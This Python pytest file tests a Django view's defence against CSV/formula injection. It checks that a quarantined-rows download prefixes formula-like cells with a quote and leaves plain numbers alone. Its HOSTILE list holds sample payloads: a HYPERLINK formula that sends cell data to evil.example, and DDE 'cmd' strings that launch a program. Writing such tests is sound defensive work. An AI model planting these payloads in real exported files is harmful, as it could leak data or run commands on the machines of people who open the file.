"""The quarantined-rows download escapes cells a spreadsheet would run as formulas (CSV injection, OWASP): a cell
starting with =, +, -, @, tab or CR gets a leading single quote, except a plain number such as -5."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from harmonization.models import IngestBatch
from harmonization.views import spreadsheet_safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
PLAIN = ["-5", "+5", "-1.25", "-1,234.50", "-2e3", "abc", "", "12", "a=b", "B0ABCDEFGH"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_looking_cell_is_prefixed_with_a_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_plain_numbers_and_text_are_left_alone(cell):
    assert spreadsheet_safe(cell) == cell


def test_the_download_escapes_every_hostile_cell_and_keeps_the_rest(client, personas, tenants):
    stored = io.StringIO()
    writer = csv.writer(stored)
    writer.writerow(["line", "field", "reason", "=campaign", "cost"])
    for i, cell in enumerate(HOSTILE):
        writer.writerow([i + 2, "spend", "spend: not a number", cell, "-5"])
    batch = IngestBatch.objects.create(tenant=tenants["acme"], source="export.csv", status="succeeded")
    batch.quarantine_file.save("q.csv", ContentFile(stored.getvalue().encode()))
    client.force_login(personas["reviewer"])
    response = client.get(reverse("import_quarantine", args=[batch.pk]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="import-{batch.pk}-quarantined-rows.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["line", "field", "reason", "'=campaign", "cost"]
    assert [row[3] for row in rows[1:]] == ["'" + cell for cell in HOSTILE]
    assert {row[4] for row in rows[1:]} == {"-5"} and rows[1][0] == "2"
